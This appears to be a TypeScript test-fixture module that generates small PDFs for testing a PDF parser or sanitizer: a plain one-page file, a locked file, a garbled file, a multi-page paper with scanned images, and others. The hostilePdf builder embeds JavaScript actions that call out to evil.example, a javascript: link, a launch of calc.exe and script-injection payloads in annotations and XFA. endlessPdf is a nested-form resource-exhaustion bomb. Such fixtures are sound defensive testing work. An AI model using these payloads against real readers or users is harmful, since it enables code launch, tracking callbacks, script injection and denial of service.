/** Small PDFs made on the spot: one that would do harm if it could, and files that are none. */

import { deflateSync } from "node:zlib";

/** A file of the given objects; the first one is the catalogue. */
function pdfOf(objects: readonly string[], trailer = ""): Uint8Array {
  let text = "%PDF-1.7\n";
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, "0")} 00000 n \n`;
  });
  const at = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${at}\n%%EOF\n`;
  return new TextEncoder().encode(text);
}

const stream = (content: string, about = ""): string =>
  `<< /Length ${content.length} ${about}>>\nstream\n${content}\nendstream`;

const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
const SHOWN = stream("BT /F1 18 Tf 72 700 Td (A page that means no good.) Tj ET");

/**
 * Scripts wherever a PDF may have one, a form, an attached file, a program to start, and links to elsewhere. `mark` is what its scripts
 * would leave.
 */
export function hostilePdf(mark: string): Uint8Array {
  const script = `app.alert('${mark}'); this.getURL('https://evil.example/${mark}'); globalThis.${mark} = 1;`;
  const action = `<< /S /JavaScript /JS (${script.replaceAll("(", "\\(").replaceAll(")", "\\)")}) >>`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript << /Names [(a) ${action}] >> >>
     /AcroForm << /Fields [8 0 R] /XFA 11 0 R >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
     /Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R] /AA << /O ${action} >> >>`,
    SHOWN,
    FONT,
    "<< /Type /Annot /Subtype /Link /Rect [72 600 272 620] /A << /S /URI /URI (https://evil.example/link) >> >>",
    `<< /Type /Annot /Subtype /Link /Rect [72 560 272 580] /A << /S /URI /URI (javascript:globalThis.${mark}=1) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (text) /Rect [72 520 272 540] /AA << /K ${action} /Fo ${action} >> >>`,
    "<< /Type /Annot /Subtype /Link /Rect [72 480 272 500] /A << /S /Launch /F (calc.exe) >> >>",
    `<< /Type /Annot /Subtype /Text /Rect [72 440 92 460] /T (<img src=x onerror=${mark}=1>) /Contents (<script>${mark}=1</script>) >>`,
    stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${mark}=1</script></xdp:xdp>`),
  ]);
}

/** One page with a line and no text. */
export function wordlessPdf(): Uint8Array {
  return pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>",
    stream("72 72 m 300 300 l S"),
  ]);
}

/** Wants a password that nobody knows. */
export function lockedPdf(): Uint8Array {
  const bytes = `<${"5a".repeat(32)}>`;
  return pdfOf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
      SHOWN,
      FONT,
      `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O ${bytes} /U ${bytes} >>`,
    ],
    `/Encrypt 6 0 R /ID [${bytes} ${bytes}] `,
  );
}

/** Begins like a PDF and goes on like nothing. */
export function garbledPdf(): Uint8Array {
  const bytes = new Uint8Array(20_000);
  let state = 1;
  for (let at = 0; at < bytes.length; at += 1) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    bytes[at] = state >>> 16;
  }
  bytes.set(new TextEncoder().encode("%PDF-1.7\n"));
  return bytes;
}

/** A page as a scanner makes it: grey pixels, row by row, and no text. */
export interface Scan {
  width: number;
  height: number;
  pixels: Uint8Array;
}

/** A paper of one page for each scan or group of lines, the first line of the first page in the size of a title. */
export function paperPdf(pages: readonly (readonly string[] | Scan)[]): Uint8Array {
  const escaped = (line: string): string => line.replaceAll(/[\\()]/g, "\\$&");
  const drawn = (lines: readonly string[], page: number): string =>
    lines
      .map((line, at) => {
        const size = page === 0 && at === 0 ? 18 : 10;
        return `BT /F1 ${size} Tf 60 ${740 - 16 * at} Td (${escaped(line)}) Tj ET`;
      })
      .join("\n");
  // Each page takes three objects: itself, what it draws, and the picture that it may draw.
  const first = 4;
  const kids = pages.map((_, page) => `${first + 3 * page} 0 R`);
  return pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${kids.join(" ")}] /Count ${pages.length} >>`,
    FONT,
    ...pages.flatMap((content, page) => {
      const at = first + 3 * page;
      const resources = `<< /Font << /F1 3 0 R >> /XObject << /P ${at + 2} 0 R >> >>`;
      const own = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${at + 1} 0 R /Resources ${resources} >>`;
      return "pixels" in content
        ? [own, stream("q 612 0 0 792 0 0 cm /P Do Q"), pictureOf(content)]
        : [own, stream(drawn(content, page)), "null"];
    }),
  ]);
}

function pictureOf({ width, height, pixels }: Scan): string {
  // As digits: a file of these is text.
  const packed = Buffer.from(deflateSync(pixels)).toString("hex");
  return stream(
    `${packed}>`,
    `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8
     /Filter [/ASCIIHexDecode /FlateDecode] `,
  );
}

/** Forms that draw forms that draw forms: a few kilobytes that would take years to read. */
export function endlessPdf(): Uint8Array {
  const depth = 12;
  const first = 5;
  const forms = Array.from({ length: depth }, (_, at) => {
    const isLast = at === depth - 1;
    const content = isLast ? "BT /F1 10 Tf 72 700 Td (again and again) Tj ET" : "/X Do\n".repeat(20);
    const within = isLast ? "/Font << /F1 4 0 R >>" : `/XObject << /X ${first + at + 1} 0 R >>`;
    return stream(content, `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << ${within} >> `);
  });
  return pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${first + depth} 0 R /Resources << /XObject << /X ${first} 0 R >> >> >>`,
    FONT,
    ...forms,
    stream("/X Do"),
  ]);
}
